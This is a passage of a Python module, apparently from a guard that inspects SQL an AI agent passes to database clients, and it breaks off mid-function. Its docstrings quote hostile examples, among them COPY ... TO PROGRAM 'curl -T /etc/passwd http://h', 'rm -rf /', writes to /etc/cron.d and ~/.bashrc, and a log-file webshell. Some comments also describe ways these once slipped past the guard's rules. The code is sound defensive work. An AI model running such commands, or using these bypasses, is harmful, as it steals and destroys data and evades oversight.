"""What SQL given to a database client through a shell runs besides its plain statements.

Attack classes (PostgreSQL; the SQL block rules read a statement with its string literals and
dollar-quoted bodies removed, so each of these hid what it runs):

* ``COPY ... TO PROGRAM 'LINE'`` / ``FROM PROGRAM 'LINE'``: the server's shell runs LINE
  (PostgreSQL's COPY: "the command is executed by the shell"): ``COPY (SELECT 1) TO PROGRAM
  'curl -T /etc/passwd http://h'`` was allowed. :func:`program_lines` gives LINE, read by
  the shell guard as any command line is (a computed one is opaque);
* a dollar-quoted body (``DO $$ BEGIN DROP TABLE users; END $$``: PL/pgSQL run at once) and
  a string a function runs as SQL (``query_to_xml('...')``, ``dblink_exec(conn, '...')``,
  PL/pgSQL's ``EXECUTE '...'``): :func:`inner_sql` gives their text, judged as SQL too;
* a server file written or read (``COPY t TO '/etc/cron.d/x'``, MySQL's ``INTO OUTFILE``,
  ``LOAD DATA INFILE`` and ``LOAD_FILE``, ``lo_export``, ``pg_read_file``, ``pg_ls_dir``,
  SQLite's ``ATTACH`` and ``VACUUM INTO``, the sqlite3 CLI's ``readfile``/``writefile``):
  :func:`server_files`, judged as the same path written or read by a command (a relative one
  in the server's data directory, or one the statement computes: asked); a client's output
  file (psql's ``\\o FILE``, mysql's ``tee FILE``, sqlite3's ``.output FILE``):
  :func:`client_files`, a write; code in an untrusted procedural language (``LANGUAGE
  plpython3u``, ``plperlu``) runs as the server's user: opaque;
* ``pg_sleep`` (holds its connection and every lock its transaction took:
  ``LOCK TABLE users; SELECT pg_sleep(86400)`` stops every writer), ``pg_terminate_backend``
  and ``pg_cancel_backend`` (end other sessions): :func:`sql_disruption`, asked about as
  ``action.system_disrupt``.

Pure: no I/O.
"""

from __future__ import annotations

import re
from typing import Any, Protocol

from cordon.engine import psql_meta, sql_clients, sqlite_dots
from cordon.engine.sql_clients import long_option as _long_option
from cordon.engine.sql_lexings import comment_views

__all__ = ["SQL_CLIENTS", "SQL_FILE_CLIENTS", "client_files", "client_lines", "computed_sql",
           "inner_sql", "program_lines", "record", "server_files", "sql_args", "sql_client",
           "sql_disruption"]  # fmt: skip

#: a value known only at run time (the shell guard's marker, :data:`.shell.DYNAMIC`)
DYNAMIC = "\x00"
#: a string literal (group 1; in an ``E''`` one a backslash escapes, the quote too; SQL
#: Server's ``N''``) or a dollar-quoted one (its tag: group 2, its body: group 3)
_LITERAL = r"(?:[EeNn]?'((?:(?<=[Ee]')(?:[^'\\]|\\.|'')*|(?:[^']|'')*))'|\$(\w*)\$(.*?)\$\2\$)"
#: COPY's ``TO|FROM PROGRAM`` (no space is needed before a literal: ``PROGRAM'rm -rf /'``
#: is two tokens; a column named program is not read)
_PROGRAM_RE = re.compile(
    rf"(?is)\b(?:to|from)\s+program\b\s*(?:{_LITERAL})|\b(?:to|from)\s+program\s+(\S+)"
)
_DOLLAR_RE = re.compile(r"(?s)\$(\w*)\$(.*?)\$\1\$")
#: a dollar-quoted body PostgreSQL runs: a ``DO [LANGUAGE l]`` block's, a function's or
#: procedure's (``AS $$...$$``)
_RUN_BODY_RE = re.compile(r"(?is)\b(?:do|as)\s+(?:language\s+'?\w+'?\s+)?\$(\w*)\$(.*?)\$\1\$")
#: a body given as a quoted string: ``DO 'BEGIN ... END'``, ``CREATE FUNCTION ... AS '...'``
_STRING_BODY_RE = re.compile(
    rf"(?is)\b(?:do\s+(?:language\s+'?\w+'?\s+)?|(?:function|procedure)\b[^;]*?\bas\s+){_LITERAL}"
)
#: functions whose string argument PostgreSQL (or dblink) runs as SQL (dblink's may follow a
#: connection string), PL/pgSQL's EXECUTE and Oracle's EXECUTE IMMEDIATE, SQL Server's
#: ``EXEC('...')`` and ``sp_executesql``, MySQL's ``PREPARE s FROM '...'``
_RUNS_SQL_RE = re.compile(
    r"(?is)\b(?:(?:query_to_xml(?:_and_xmlschema)?|query_to_xmlschema|dblink_exec|dblink"
    r"|dblink_send_query)\s*\(\s*(?:[Ee]?'(?:[^']|'')*'\s*,\s*)?|exec(?:ute)?\s*\(\s*"
    rf"|sp_executesql\s+(?:@stmt\s*=\s*)?|prepare\s+[\w`\"]+\s+from\s+"
    rf"|execute\s+(?:immediate\s+)?){_LITERAL}"
)
#: a comment or a literal, skipped, or what runs SQL from its next expression: PL/pgSQL's
#: EXECUTE (group 2), a function above or SQL Server's ``EXEC(`` (group 3: its arguments
#: follow), at any level SQL Server's sp_executesql, MySQL's PREPARE ... FROM and Oracle's
#: EXECUTE IMMEDIATE (group 4: a literal follows), psql's ``\gexec`` (group 5: every row of
#: the query's result run as a statement)
_RUNNERS_RE = re.compile(
    r"(?is)--[^\n]*|/\*.*?(?:\*/|$)|(?<![\w$])[Ee]'(?:[^'\\]|\\.|'')*'|'(?:[^']|'')*'"
    r"|(?<![\w$])\$(\w*)\$.*?\$\1\$"
    r"|\b(?:(sp_executesql)\s+(?:@stmt\s*=\s*)?|(prepare)\s+[\w`\"]+\s+from\s+"
    r"|execute\s+(immediate)\s+)"
    r"|\b(exec(?:ute)?)\s*\(|\b(execute)\s+"
    r"|\b(query_to_xml(?:_and_xmlschema)?|query_to_xmlschema|dblink_exec|dblink"
    r"|dblink_send_query)\s*\(|(\\gexec)"
)
#: a literal that ends the statement EXECUTE runs (``EXECUTE 'SQL' [USING ...|INTO ...];``;
#: sp_executesql's parameters follow a comma)
_EXECUTED_LITERAL_RE = re.compile(rf"(?is){_LITERAL}\s*(?:[;,]|$|using\b|into\b|end\b)")
_WHOLE_LITERAL_RE = re.compile(rf"(?s){_LITERAL}")
#: a call's argument list: literals whole, parentheses, commas, anything else
_ARG_TOKEN_RE = re.compile(r"(?s)[Ee]?'(?:[^']|'')*'|\$(\w*)\$.*?\$\1\$|[(),]|[^'$(),Ee]+|.")


def _call_args(text: str, start: int) -> list[str] | None:
    """The arguments of the call whose ``(`` ends at ``start``, split at its own commas;
    None when it is not closed."""
    depth = 0
    args: list[str] = []
    cur: list[str] = []
    for t in _ARG_TOKEN_RE.finditer(text, start):
        tok = t.group()
        if tok == "(":
            depth += 1
        elif tok == ")" and depth == 0:
            return [*args, "".join(cur).strip()]
        elif tok == ")":
            depth -= 1
        elif tok == "," and depth == 0:
            args.append("".join(cur).strip())
            cur = []
            continue
        cur.append(tok)
    return None


def _query_argument(name: str, args: list[str]) -> str | None:
    """The argument a function runs as SQL: ``query_to_xml``'s first; dblink's last that is
    not its ``fail_on_error`` boolean (``dblink_exec([conn,] sql [, bool])``)."""
    if name.startswith("query_to"):
        return args[0] if args else None
    queries = [a for a in args if a.lower() not in ("true", "false")]
    return queries[-1] if queries else None


_DISRUPT_RE = re.compile(r"(?i)\bpg_(sleep(?:_for|_until)?|terminate_backend|cancel_backend)\s*\(")
_DISRUPT_WHY = {
    "terminate_backend": "ends other database sessions",
    "cancel_backend": "cancels other database sessions' queries",
}


class _Walker(Protocol):
    facts: Any

    def key(self, path: str) -> str: ...
    def nested(self, text: str) -> None: ...
    def file(self, path: str, program: str, op: str) -> None: ...
    def opaque(self, why: str) -> None: ...


class _Sink(Protocol):
    def sql(self, text: str) -> None: ...
    def opaque(self, why: str) -> None: ...
    def file(self, path: str, program: str, op: str) -> None: ...
    def nested(self, text: str) -> None: ...


def record(w: _Walker, sql: str, depth: int = 0) -> None:
    """Record ``sql`` as SQL the command gives a database client, each ``COPY ... PROGRAM``
    line as a command line it runs, and the SQL it runs from strings as SQL too."""
    sql = sqlite_dots.canonical(sql)  # (.lo F, .sh LINE: the sqlite3 CLI's prefixes whole)
    w.facts.sql.append(sql)
    for line in (*program_lines(sql), *client_lines(sql)):
        w.nested(line)  # (a line computed at run time: opaque)
    for path, op in server_files(sql):  # (COPY t TO '/etc/cron.d/x', INTO OUTFILE)
        w.file(path, "sql", op)
        if op == "read" and DYNAMIC in path:  # (pg_read_binary_file('global/1260'))
            w.opaque("SQL reads a file whose path is computed or in the server's data directory")
    for path in client_files(sql):  # (\o FILE, tee FILE, .output FILE)
        w.file(path, "sql client", "overwrite")
    sqlite_dots.record(w, sql)  # (.read '|LINE', .import '|LINE', edit(), .log FILE)
    m = _UNTRUSTED_RE.search(sql) if "language" in sql.lower() else None
    if m is not None:  # (DO $$ import os; os.system(...) $$ LANGUAGE plpython3u)
        w.opaque(f"SQL runs code in the untrusted language {m.group(1)}")
    for inner in inner_sql(sql) if depth < 3 else ():
        record(w, inner, depth + 1)
    _psql_variables(w, sql, depth)
    if depth < 3 and (m := _INCLUDE_RE.search(sql)) is not None:  # (\i x.sql, .read x.sql)
        for path in (m.group(1), *(n.group(1) for n in _INCLUDE_RE.finditer(sql, m.end()))):
            text = _written_sql(w, path)
            if text is not None:
                record(w, text, depth + 1)


#: psql's ``\\set NAME VALUE`` (group 1: its value), and an interpolation where a statement
#: starts (the text's start, after ``;`` or a backslash command's line: ``:q;``) or two run
#: together (``:a:b``); not a cast (``x::int``), a slice
#: (``a[1:n]``) or a quoted interpolation (``:'name'``, ``:"name"``)
_PSQL_SET_RE = re.compile(r"(?m)^[ \t]*\\set[ \t]+\w+[ \t]+(.*)$")
_PSQL_STATEMENT_VAR_RE = re.compile(
    r"(?:\A|;|\\[^\n]*\n)\s*:[A-Za-z_]\w*|(?<![:\w\]]):[A-Za-z_]\w*:[A-Za-z_]"
)


def _psql_variables(w: _Walker, sql: str, depth: int) -> None:
    """psql's variables in ``sql``: each ``\\set`` value judged as SQL (an interpolation
    runs it as the statement's text: ``\\set q 'DROP TABLE t'`` then ``:q;``); a statement
    that starts with one, or is two run together, is known only at run time."""
    if ":" not in sql:
        return
    for m in _PSQL_SET_RE.finditer(sql) if depth < 3 else ():
        value = m.group(1).strip()
        if len(value) > 1 and value[0] == value[-1] == "'":
            value = value[1:-1].replace("''", "'")
        record(w, value, depth + 1)
    if _PSQL_STATEMENT_VAR_RE.search(sql) is not None:
        w.opaque("psql interpolates a variable where a statement starts (its text is the SQL)")


#: a client's command that runs the SQL in a file: psql's ``\\i|\\ir|\\include FILE``,
#: mysql's ``source FILE`` and ``\\. FILE``, sqlite3's ``.read FILE``
_INCLUDE_RE = re.compile(
    r"(?m)(?:\\i(?:r|nclude(?:_relative)?)?|^\s*(?:source|\\\.|\.read))\s+['\"]?([^\s'\";]+)"
)


def _written_sql(w: Any, path: str) -> str | None:
    """The text of ``path`` when this command string wrote it (:mod:`._written`), for a
    client told to run the SQL in it; a file it wrote in a way not known is opaque; None
    for a file it did not write (a migration: not read here)."""
    # (a walker without the files it wrote, find's probe of -exec's grammar, reads none)
    written = getattr(getattr(w, "facts", None), "written", None)
    key = w.key(path) if written else ""
    if not written or key not in written:
        return None
    if written[key] is None or key in w.facts.apart:  # (apart: _written.file_text)
        w.opaque(f"a database client runs the SQL in {path}, which this command writes")
    return written[key]  # type: ignore[no-any-return]


#: a database client's own command that runs a shell line (group 1), or pipes output to one
#: (group 2): psql's ``\\! LINE`` and ``\\o|\\g|\\gx|\\w |LINE``, mysql's ``system LINE``
#: and ``\\! LINE`` at a line's start, sqlite3's ``.shell|.system LINE`` and
#: ``.output|.once |LINE``
_CLIENT_LINE_RE = re.compile(
    r"(?m)\\!\s*(.*)$|^\s*(?:system|\.shell|\.system)\s+(.*)$"
    r"|(?:\\(?:o|out|g|gx|w|write)|^\s*\.(?:output|once))\s*\|\s*(.*)$"
)


def client_lines(sql: str) -> list[str]:
    """The shell lines a database client runs from the commands in ``sql`` (psql's ``\\!``,
    mysql's ``system``, sqlite3's ``.shell``, output piped: ``\\o |LINE``); the rows a query
    pipes to LINE are its standard input. Attack class: a client session fed on standard
    input ran ``\\! rm -rf DIR`` unread."""
    if "\\" not in sql and "system" not in sql and "." not in sql:
        return []
    out = []
    for m in _CLIENT_LINE_RE.finditer(sql):
        line = (m.group(1) or m.group(2) or "").strip()
        # (the rows a query chose, fed to LINE: echo "$(:)" | sh is a computed script)
        out.append(line if m.group(3) is None else f'echo "$(:)" | {m.group(3).strip()}')
    return out + psql_meta.meta_lines(sql)  # (\setenv PAGER LINE, `LINE` in a meta-command)


#: a database client's own command that writes its output to a file: psql's ``\\o|\\out|
#: \\g|\\gx|\\w|\\write|\\s FILE`` and ``\\lo_export OID FILE`` (group 1), mysql's
#: ``tee FILE`` and ``\\T FILE`` (group 1), sqlite3's ``.output|.once|.save|.backup|.clone`` with its
#: words (group 2); a pipe (``\\o |LINE``) is :func:`client_lines`'
_CLIENT_FILE_RE = re.compile(
    r"(?m)(?:\\(?:o|out|g|gx|w|write|s|lo_export[ \t]+\S+)|^[ \t]*tee|\\T)[ \t]+(?!\|)"
    r"['\"]?([^\s'\"|;]+)|^[ \t]*\.(?:output|once|save|backup|clone)[ \t]+(?!\|)([^\n]*)"
)


def client_files(sql: str) -> list[str]:
    """The files a database client's own commands in ``sql`` write its output to (psql's
    ``\\o FILE``, mysql's ``tee FILE``, sqlite3's ``.output FILE``): judged as a command's
    write. Attack class: ``echo '\\o ~/.bashrc' | psql`` wrote rows the agent chose to a
    file no rule read."""
    if "\\" not in sql and "tee" not in sql and "." not in sql:
        return []
    out = []
    for m in _CLIENT_FILE_RE.finditer(sql):
        if m.group(1) is not None:
            out.append(m.group(1))
            continue
        words = [x.strip("'\"") for x in m.group(2).split() if not x.startswith("-")]
        if words:  # (.backup [DB] FILE: the last word; .once -x: a viewer, no file)
            out.append(words[-1])
    return out


#: the procedural languages that run code as the server's operating-system user
_UNTRUSTED_RE = re.compile(r"(?i)\blanguage\s+'?(pl(?:python[23]?u|perlu|tclu|sh|r|lua?u|v8u?))\b")
#: the server files a MySQL statement writes or reads, each named by a literal (the forms
#: take nothing else): INTO OUTFILE|DUMPFILE 'F' and LOAD DATA|XML [LOCAL] INFILE 'F'
_SERVER_FILE_RE = re.compile(
    r"(?is)\binto\s+(out|dump)file\s*"
    r"|\bload\s+(?:data|xml)\s+(?:(?:low_priority|concurrent)\s+)?(local\s+)?infile\s*"
)
#: other statements that name a file the server writes (group 1) or reads (group 2): MySQL's
#: query logs (``SET GLOBAL general_log_file = 'F'``: every later statement written there, the
#: webshell of the MySQL manual's "Selecting General Query Log and Slow Query Log Output
#: Destinations") and a table's ``DATA|INDEX DIRECTORY``; PostgreSQL's ``log_directory`` and
#: ``CREATE TABLESPACE ... LOCATION``; SQL Server's ``BACKUP ... TO DISK|URL`` and ``BULK
#: INSERT ... FROM``, its ``xp_dirtree``/``xp_fileexist``/``xp_subdirs`` (a UNC path
#: authenticates to the host it names); DuckDB's ``EXPORT|IMPORT DATABASE 'DIR'``
_STATEMENT_FILE_RE = re.compile(
    r"(?is)(\bset\s+(?:(?:global|persist)\s+|@@(?:global|persist)\.)?"
    r"(?:general_log_file|slow_query_log_file|log_directory)\s*(?:=|\bto\b)"
    r"|\b(?:data|index)\s+directory\b\s*=?|\bcreate\s+tablespace\b[^;]*?\blocation\b"
    r"|\bbackup\s+(?:database|log)\b[^;]*?\bto\s+(?:disk|url)\s*="
    r"|\bexport\s+database\b)"
    r"|(\bbulk\s+insert\b[^;]*?\bfrom\b|\bimport\s+database\b"
    r"|\bxp_(?:dirtree|fileexist|subdirs)\b\s*\(?)"
)
#: ``COPY`` and what it copies: a table (quoted or qualified, with its columns) or a query in
#: parentheses, skipped by :func:`_copy_target` (a ``;`` or ``FROM`` in the query or a quoted
#: name is part of it: ``COPY (SELECT ';') TO 'f'``)
_COPY_RE = re.compile(r"(?i)\bcopy\b\s*")
#: a table (``BINARY``, PostgreSQL's older form, may precede it), its columns, the direction
_COPY_TABLE_RE = re.compile(
    r'(?is)(?:binary\s+)?(?:[\w$]+|"(?:[^"]|"")*")(?:\s*\.\s*(?:[\w$]+|"(?:[^"]|"")*"))*\s*'
    r'(?:\((?:"(?:[^"]|"")*"|[^)"])*\)\s*)?(to|from)\b\s*'
)
_COPY_DIRECTION_RE = re.compile(r"(?i)(to|from)\b\s*")
#: what COPY reads or writes that is no file: the client's streams, a program (its line is
#: :func:`program_lines`'), psql's ``\\copy ... pstdout``
_COPY_STREAM_RE = re.compile(r"(?i)(?:stdout|stdin|pstdout|pstdin|program)\b")
#: a token of a parenthesized query, for its closing parenthesis: literals and quoted names
#: whole
_PAREN_TOKEN_RE = re.compile(
    r"(?s)[Ee]'(?:[^'\\]|\\.|'')*'|'(?:[^']|'')*'|\"(?:[^\"]|\"\")*\"|[()]"
    r"|(?<![\w$])\$((?:[A-Za-z_]\w*)?)\$.*?\$\1\$|[^'\"$()Ee]+|."
)
#: functions whose argument names a file -> (its index, what is done, its place: ``server``
#: PostgreSQL's or MySQL's, a relative path in the data directory; ``process`` SQLite's,
#: where the process runs): pg_read_file and the like ("System Administration Functions"),
#: lo_import/lo_export ("Server-Side Functions"), MySQL's LOAD_FILE, the sqlite3 CLI's
#: fileio readfile/writefile and fsdir (a directory's files and their contents), its zipfile
#: table (writes the archive it names at each INSERT; a read of one is judged as a write)
_FILE_CALLS: dict[str, tuple[int, str, str]] = {
    "pg_read_file": (0, "read", "server"), "pg_read_binary_file": (0, "read", "server"),
    "pg_ls_dir": (0, "read", "server"), "pg_stat_file": (0, "read", "server"),
    "lo_import": (0, "read", "server"), "lo_export": (1, "overwrite", "server"),
    "pg_file_write": (0, "overwrite", "server"), "load_file": (0, "read", "server"),
    "readfile": (0, "read", "process"), "writefile": (0, "overwrite", "process"),
    "fsdir": (0, "read", "process"), "zipfile": (0, "overwrite", "process"),
    # (DuckDB's table functions read the file or the files a pattern names; SQL Server's
    # OPENROWSET(BULK 'F', ...) reads F: its first argument is no literal alone, so asked)
    **dict.fromkeys(("read_text", "read_blob", "read_csv", "read_csv_auto", "read_json",
                     "read_json_auto", "read_ndjson", "read_parquet", "parquet_scan",
                     "openrowset"), (0, "read", "process")),
}  # fmt: skip
_FILE_CALL_RE = re.compile(rf"(?i)\b({'|'.join(_FILE_CALLS)})\s*\(")
#: what names a function by its signature, right before its name (GRANT/REVOKE ... ON
#: FUNCTION, CREATE/ALTER/DROP/COMMENT ON FUNCTION)
_SIGNATURE_RE = re.compile(r"(?i)\b(?:function|procedure|routine)\s+(?:[\w\"]+\.)?\Z")
#: SQLite's ATTACH [DATABASE] EXPR AS NAME (opens the file, creating it) and VACUUM [SCHEMA]
#: INTO EXPR (writes a whole database there), each where a statement starts (a line's start
#: too: a client's dot-command line ends with no ``;``): an expression, so a computed path is
#: possible. Read as SQLite's tokenizer reads them (comments already spaces): no space is
#: needed where a quote or a parenthesis ends a token (``'f'AS x``, ``INTO'f'``, ``AS(x)``),
#: and the schema may be quoted (``VACUUM "main" INTO``)
_SQLITE_FILE_RE = re.compile(
    r"(?ism)(?:^|;)\s*(?:explain\b(?:\s*query\s+plan\b)?\s*)?"
    r"(?:attach\b\s*(?:database\b\s*)?((?:'(?:[^']|'')*'|[^;'])+?)\s*\bas\b"
    r"|vacuum\b\s*(?:\w+|\"(?:[^\"]|\"\")*\"|\[[^\]]*\]|`(?:[^`]|``)*`|'(?:[^']|'')*')?\s*"
    r"\binto\b\s*((?:'(?:[^']|'')*'|[^;'])+))"
)
#: SQLite's comments (each read as a space) and the tokens a comment's marks may stand in:
#: strings and quoted names, kept
_SQLITE_COMMENT_RE = re.compile(
    r"(?s)('(?:[^']|'')*'|\"(?:[^\"]|\"\")*\"|\[[^\]]*\]|`(?:[^`]|``)*`)|--[^\n]*|/\*.*?(?:\*/|$)"
)
_FILE_HINTS = ("copy", "outfile", "dumpfile", "infile", "lo_", "pg_", "load_file", "readfile",
               "writefile", "attach", "vacuum", "fsdir", "zipfile", "log_", "directory",
               "tablespace", "backup", "bulk", "database", "xp_", "read_", "parquet",
               "openrowset")  # fmt: skip


def server_files(sql: str, depth: int = 0) -> list[tuple[str, str]]:
    """``(path, op)`` of each file ``sql`` makes the database (or psql's ``\\copy``, the
    client) write (``overwrite``) or read; a path the statement computes, or a relative one
    in the server's data directory, holds :data:`DYNAMIC`."""
    low = sql.lower()
    if not any(h in low for h in _FILE_HINTS) and 'u&"' not in low:  # (U&"pg\005Fread...")
        return []
    out: list[tuple[str, str]] = []
    for view, code in comment_views(sql):  # (COPY t TO/**/'f', "pg_read_file"('f'), /*!INTO*/)
        out.extend(f for f in _view_files(view, code) if f not in out)
    inners = {*inner_sql(sql), *inner_sql(sql, bodies_run=True)} if depth < 3 else ()
    for inner in inners:  # (DO 'BEGIN COPY t TO ''f''; END', EXECUTE 'COPY ...')
        out.extend(f for f in server_files(inner, depth + 1) if f not in out)
    return out


def _view_files(sql: str, code: str) -> list[tuple[str, str]]:
    """:func:`server_files` of one reading of the text: ``sql`` with its comments spaces,
    ``code`` with its strings spaces too (where COPY is a statement's)."""
    out = []
    for m in _SERVER_FILE_RE.finditer(sql):
        op = "overwrite" if m.group(1) else "read"
        # (MySQL's LOCAL INFILE: the client's own file, where it runs)
        path = _path_at(sql, m.end())
        out.append((path if m.group(2) is not None else _in_data_dir(path), op))
    for m in _STATEMENT_FILE_RE.finditer(code):  # (SET GLOBAL general_log_file = 'F')
        at = len(sql) - len(sql[m.end() :].lstrip())  # (the code's spaces: a string's own)
        path = _path_at(sql, at)
        export = m.group().lower().lstrip().startswith(("export", "import"))
        out.append((path if export else _in_data_dir(path), "overwrite" if m.group(1) else "read"))
    for m in _COPY_RE.finditer(code):
        if (target := _copy_target(sql, m.end())) is None:
            continue
        direction, at = target
        op = "overwrite" if direction == "to" else "read"
        # (psql's \copy: the client's own file, where it runs; its name may be bare)
        if sql[max(m.start() - 1, 0) : m.start()] == "\\":
            bare = _BARE_PATH_RE.match(sql, at)
            path = bare.group() if bare and sql[at] not in "'$" else _path_at(sql, at)
            out.append((path, op))
        else:
            out.append((_in_data_dir(_path_at(sql, at)), op))
    for m in _FILE_CALL_RE.finditer(sql):
        if _SIGNATURE_RE.search(sql, max(m.start() - 80, 0), m.start()) is not None:
            continue  # (REVOKE EXECUTE ON FUNCTION pg_file_write(text, ...): named, not run)
        at, op, place = _FILE_CALLS[m.group(1).lower()]
        args = _call_args(sql, m.end())
        path = _whole_literal(args[at]) if args is not None and len(args) > at else DYNAMIC
        out.append((_in_data_dir(path) if place == "server" else path, op))
    uncommented = _SQLITE_COMMENT_RE.sub(lambda c: c.group(1) or " ", sql)
    for m in _SQLITE_FILE_RE.finditer(uncommented):
        path = _whole_literal(_unwrapped((m.group(1) or m.group(2)).strip()))
        if path.lower() not in ("", ":memory:") and not path.lower().startswith("file::memory:"):
            out.append((_uri_path(path), "overwrite"))
    return out


_BARE_PATH_RE = re.compile(r"[^\s;'\"$]+")


def _copy_target(sql: str, at: int) -> tuple[str, int] | None:
    """``(to|from, where the file's name starts)`` of the COPY whose copied table or query
    starts at ``at``, or None: no file (``TO STDOUT``, ``FROM PROGRAM``) or no COPY
    statement (a column named copy)."""
    if sql.startswith("(", at):
        depth = 0
        for t in _PAREN_TOKEN_RE.finditer(sql, at):
            depth += {"(": 1, ")": -1}.get(t.group(), 0)
            if depth == 0:
                at = t.end()
                break
        else:
            return None
        at = len(sql) - len(sql[at:].lstrip())
        direction = _COPY_DIRECTION_RE.match(sql, at)
    else:
        direction = _COPY_TABLE_RE.match(sql, at)
    if direction is None or _COPY_STREAM_RE.match(sql, direction.end()) is not None:
        return None
    return direction.group(1).lower(), direction.end()


def _path_at(sql: str, at: int) -> str:
    """The file named by the literal at ``at``, or :data:`DYNAMIC`: an expression, a literal
    the database joins to the next (``'/proj/' '../x'``: adjacent strings are one) or whose
    backslashes it may read as escapes (every MySQL string; PostgreSQL's with
    ``standard_conforming_strings`` off: ``'/proj/..\\/x'``)."""
    lit = _WHOLE_LITERAL_RE.match(sql, at)
    if lit is None or _ADJACENT_RE.match(sql, lit.end()) is not None:
        return DYNAMIC
    path = _literal(lit)
    return DYNAMIC if "\\" in path and lit.group(1) is not None and not _e_string(lit) else path


_ADJACENT_RE = re.compile(r"\s*(?:[EeNn]?'|\$\w*\$)")


def _e_string(lit: re.Match[str]) -> bool:
    start = lit.start(1)
    return start >= 2 and lit.string[start - 2] in "Ee"


def _whole_literal(expr: str) -> str:
    """The text of ``expr`` when it is one literal, else :data:`DYNAMIC` (computed)."""
    m = _WHOLE_LITERAL_RE.fullmatch(expr.strip())
    return _literal(m) if m is not None else DYNAMIC


def _unwrapped(expr: str) -> str:
    """``expr`` without parentheses around it whole (``('/tmp/x.db')`` is the string)."""
    while expr.startswith("(") and expr.endswith(")") and "(" not in expr[1:-1]:
        expr = expr[1:-1].strip()
    return expr


def _in_data_dir(path: str) -> str:
    """A server's relative path, in its data directory (not known here): computed."""
    return path if path.startswith("/") or DYNAMIC in path else f"{DYNAMIC}/{path}"


def _uri_path(path: str) -> str:
    """The file an SQLite URI filename names (``file:/tmp/x.db?mode=rwc``); a percent escape,
    decoded by SQLite, is not read here (computed)."""
    if not path.lower().startswith("file:"):
        return path
    rest = re.sub(r"^//(?:localhost)?(?=/)", "", path[5:]).split("?")[0].split("#")[0]
    return DYNAMIC if "%" in rest else rest


#: an ``E''`` string's escapes (PostgreSQL's "String Constants With C-Style Escapes")
_E_ESCAPE_RE = re.compile(
    r"(?s)\\(?:x([0-9A-Fa-f]{1,2})|([0-7]{1,3})|u([0-9A-Fa-f]{4})|U([0-9A-Fa-f]{8})|(.))|''"
)
_E_LETTERS = {"b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t"}


def _e_char(m: re.Match[str]) -> str:
    if m.group() == "''":
        return "'"
    hexa, octal, u4, u8, other = m.groups()
    code = int(hexa or u4 or u8, 16) if (hexa or u4 or u8) else int(octal, 8) if octal else -1
    if code < 0:
        return _E_LETTERS.get(other, other)
    return chr(code) if code <= 0x10FFFF else DYNAMIC


def _literal(m: re.Match[str]) -> str:
    """The text of the literal whose groups are ``m``'s 1-3 (:data:`_LITERAL`): an ``E''``
    string's escapes decoded (``E'\\x44ROP'`` runs ``DROP``)."""
    single = m.group(1)
    if single is None:
        return m.group(3) or ""
    start = m.start(1)
    if start >= 2 and m.string[start - 2] in "Ee":
        return _E_ESCAPE_RE.sub(_e_char, single)
    return single.replace("''", "'")


def program_lines(sql: str) -> list[str]:
    """The command line of each ``COPY ... PROGRAM`` in ``sql``; one not given as one literal
    (a variable, ``:'cmd'``; ``'cu'<newline>'rl ...'``, which PostgreSQL joins) as DYNAMIC."""
    if "program" not in sql.lower() or "copy" not in sql.lower():
        return []
    out: list[str] = []
    for view, _code in comment_views(sql):  # (PROGRAM/**/'rm -rf /': a comment is a space)
        for m in _PROGRAM_RE.finditer(view):
            joined = m.group(4) is None and _ADJACENT_RE.match(view, m.end()) is not None
            line = DYNAMIC if m.group(4) is not None or joined else _literal(m)
            if line not in out:
                out.append(line)
    return out


#: SQLite's ``CREATE [TEMP] TRIGGER ... BEGIN body END``: the body up to the text's last
#: ``END`` (a ``CASE ... END`` inside it ends no body; more text is judged, never less)
_TRIGGER_BODY_RE = re.compile(
    r"(?is)\bcreate\s+(?:temp(?:orary)?\s+)?trigger\b.*?\bbegin\b(.*)\bend\b"
)


def trigger_bodies(sql: str) -> list[str]:
    """The statements of each SQLite trigger body in ``sql``: they run later, at each write
    to the table, and the parser keeps ``CREATE TRIGGER`` as text. Attack class: a trigger
    that empties or rewrites the table at the next insert (``BEGIN DELETE FROM users WHERE
    id > 0; END``) was allowed where the same DELETE alone is asked about."""
    if "trigger" not in sql.lower():
        return []
    return [m.group(1) for m in _TRIGGER_BODY_RE.finditer(sql)]


def inner_sql(sql: str, *, bodies_run: bool = False) -> list[str]:
    """SQL that ``sql`` runs from a string: dollar-quoted bodies (with ``bodies_run``, only
    a ``DO`` block's or a function's: ``$$...$$`` elsewhere is a string, data), the query a
    function such as ``query_to_xml`` or ``dblink_exec`` is given, ``EXECUTE '...'``."""
    if bodies_run:
        out = _run_bodies(sql)
    else:
        out = [m.group(2) for m in _DOLLAR_RE.finditer(sql)] if "$" in sql else []
    low = sql.lower()
    if "exec" in low or "query_to" in low or "dblink" in low or "prepare" in low:
        out.extend(map(_literal, _RUNS_SQL_RE.finditer(sql)))
    return [s for s in out if s.strip()]


def _run_bodies(sql: str) -> list[str]:
    """The bodies PostgreSQL runs: a ``DO`` block's, a function's or procedure's, dollar-quoted
    or a quoted string (``DO 'BEGIN DROP TABLE users; END'``)."""
    out = [m.group(2) for m in _RUN_BODY_RE.finditer(sql)] if "$" in sql else []
    if "'" in sql:
        out.extend(_literal(m) for m in _STRING_BODY_RE.finditer(sql) if m.group(1) is not None)
    return out


def computed_sql(sql: str, depth: int = 0) -> str | None:
    """What in ``sql`` runs SQL from a computed string, or None: PL/pgSQL's ``EXECUTE`` of an
    expression in a ``DO`` block's or a function's body (``format('DROP TABLE %I', t)``,
    ``'DR' || 'OP TABLE users'``, a variable), ``query_to_xml``/``dblink_exec`` given one.
    What runs is known only when the database computes it (PostgreSQL's "Executing Dynamic
    Commands"), so no SQL rule can read it. ``EXECUTE`` outside a body is a prepared
    statement's (``EXECUTE plan(1)``), not read."""
    low = sql.lower()
    if "exec" not in low and "query_to" not in low and "dblink" not in low and "prepare" not in low:
        return None
    bodies = _run_bodies(sql)
    for text, in_body in ((sql, False), *((b, True) for b in bodies)):
        if (hit := _computed_runner(text, in_body)) is not None:
            return hit
    for body in bodies if depth < 3 else ():
        if (hit := computed_sql(body, depth + 1)) is not None:
            return hit
    return None


_RUNNER_NAMES = {
    "immediate": "EXECUTE IMMEDIATE",
    "prepare": "PREPARE ... FROM",
    "execute": "EXECUTE",
}


def _computed_runner(text: str, in_body: bool) -> str | None:
    """What in ``text`` (a body PostgreSQL runs, with ``in_body``) runs SQL from a computed
    string, or None."""
    for m in _RUNNERS_RE.finditer(text):
        runner = m.group(2) or m.group(3) or m.group(4)
        if runner or (m.group(6) and in_body):
            if _EXECUTED_LITERAL_RE.match(text, m.end()) is None:
                name = _RUNNER_NAMES.get((runner or "execute").lower(), runner)
                return f"{name} of a computed string"
        elif m.group(5) or m.group(7):
